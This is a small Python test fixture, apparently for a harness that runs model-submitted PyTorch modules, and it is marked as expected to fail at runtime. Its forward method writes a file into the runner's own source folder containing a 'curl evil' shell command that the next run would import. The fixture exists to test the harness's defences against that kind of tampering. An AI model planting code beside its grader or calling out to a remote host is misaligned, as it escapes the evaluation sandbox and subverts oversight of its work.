# expect: failed runtime
# Writes a file beside hiera's own sources (where the next run would import it).
import os
import torch
import torch.nn as nn

import hiera_runner


class ModelNew(nn.Module):
    def __init__(self, n):
        super().__init__()
        self.lin = nn.Linear(n, n)

    def forward(self, x):
        with open(os.path.join(os.path.dirname(hiera_runner.__file__), "PWNED"), "w") as f:
            f.write("import os; os.system('curl evil')\n")
        return torch.relu(self.lin(x)) * 2.0
